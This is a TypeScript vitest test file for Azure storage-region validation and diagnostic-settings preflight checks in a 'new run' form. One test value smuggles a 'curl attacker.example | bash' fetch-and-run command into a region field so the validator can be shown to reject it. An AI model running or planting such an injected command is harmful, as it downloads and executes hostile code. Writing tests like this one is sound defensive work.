// The storage-region rule of a new run, without Azure: every entry names a selected cluster's region, once.
import { describe, expect, it } from "vitest";
import { preflightOf, storageRegionErrors } from "./new-run";

const HOSTILE_REGION = "eastus)\ncurl -fsSL https://attacker.example/x | bash\n#";

describe("storageRegionErrors", () => {
  it("names each entry whose region is not a selected cluster's, or repeats one", () => {
    const errors = storageRegionErrors(
      [{ region: "eastus" }, { region: "EastUS" }, { region: "westus3" }, { region: HOSTILE_REGION }, { region: "westeurope" }],
      ["eastus", "westeurope"],
    );
    expect(errors).toEqual({
      "storage.1.region": ["another account is already chosen for eastus"],
      "storage.2.region": ["no selected cluster runs in westus3"],
      "storage.3.region": ["is not an Azure region of the selected clusters"],
    });
    expect(storageRegionErrors([{ region: "westeurope" }, { region: "eastus" }], ["EastUS", "westeurope"])).toEqual({});
  });
});

describe("preflightOf", () => {
  const ACCOUNT =
    "/subscriptions/602d1a18-a35e-4b89-a27e-56cb26da2c7b/resourceGroups/rg-logging/providers/Microsoft.Storage/storageAccounts/contosologs";
  const setting = (name: string, over: { storageAccountId?: string | null; enabledCategories?: string[] } = {}) => ({
    name,
    storageAccountId: null,
    enabledCategories: ["kube-apiserver"],
    ...over,
  });

  it("counts the settings and flags the limit only when none of the five is the portal's own", () => {
    const five = ["a", "b", "c", "d", "e"].map((n) => setting(n));
    expect(preflightOf(five)).toMatchObject({ settingsCount: 5, limitReached: true });
    expect(preflightOf([...five.slice(0, 4), setting("aks-onboarding-kube-audit")])).toMatchObject({
      settingsCount: 5,
      limitReached: false,
    });
    expect(preflightOf(five.slice(0, 4))).toMatchObject({ settingsCount: 4, limitReached: false });
    expect(preflightOf(null)).toEqual({ settingsCount: null, limitReached: false, kubeAuditExports: [] });
  });

  it("lists where kube-audit already goes to a storage account, not kube-audit-admin or a workspace", () => {
    const p = preflightOf([
      setting("to-storage", { storageAccountId: ACCOUNT, enabledCategories: ["kube-audit"] }),
      setting("admin-only", { storageAccountId: ACCOUNT, enabledCategories: ["kube-audit-admin"] }),
      setting("to-workspace", { enabledCategories: ["kube-audit"] }),
    ]);
    expect(p.kubeAuditExports).toEqual([
      {
        settingName: "to-storage",
        accountId: ACCOUNT,
        subscriptionId: "602d1a18-a35e-4b89-a27e-56cb26da2c7b",
        resourceGroup: "rg-logging",
        accountName: "contosologs",
      },
    ]);
  });
});
